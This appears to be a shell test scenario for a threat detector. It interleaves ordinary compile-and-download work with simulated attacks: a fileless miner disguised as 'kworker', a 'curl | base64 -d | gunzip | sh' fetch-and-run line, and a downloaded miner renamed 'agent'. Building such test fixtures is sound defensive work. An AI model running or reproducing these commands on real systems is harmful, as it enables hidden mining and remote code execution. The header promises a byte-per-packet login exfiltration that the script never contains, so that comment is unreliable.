# SPDX-License-Identifier: Apache-2.0
# Everyday work with three attacks in between: a miner that has no file, a script that arrives
# packed twice, and a login that goes out one byte a packet.
. "$STAGE/common.sh"
mkdir work
cd work

work() {
    printf 'int main(void) { return %d; }\n' "$1" >work.c
    gcc -O1 -o work work.c
    ./work || true
    rm work
    curl -s "$WEB/tool.tar.gz" | tar xz
    curl -s "$WEB/release.json" | jq -r .tag_name
    curl -s "$WEB/version.txt" | while read -r line; do echo "saw $line"; done
    echo 'echo local' | sh
    make -s -C tool
}

work 1
echo "127.0.0.1 $POOL_PORT fast" >fast.conf
python3 "$STAGE/memfd.py" "$WEB/java" kworker -c fast.conf >memfd.log &
miner=$!
work 2
wait_for 'accepted memfd.log 5'
kill "$miner"

work 3
curl -s "$WEB/p" | base64 -d | gunzip | sh
work 4

# A program with a file and a harmless name: what it says convicts it.
mkdir bin
curl -s -o bin/agent "$WEB/java"
chmod 755 bin/agent
echo "127.0.0.1 $POOL_PORT slow" >slow.conf
bin/agent -c slow.conf >agent.log &
miner=$!
wait_for 'accepted agent.log 2'
work 5
kill "$miner"
work 6
touch ../done
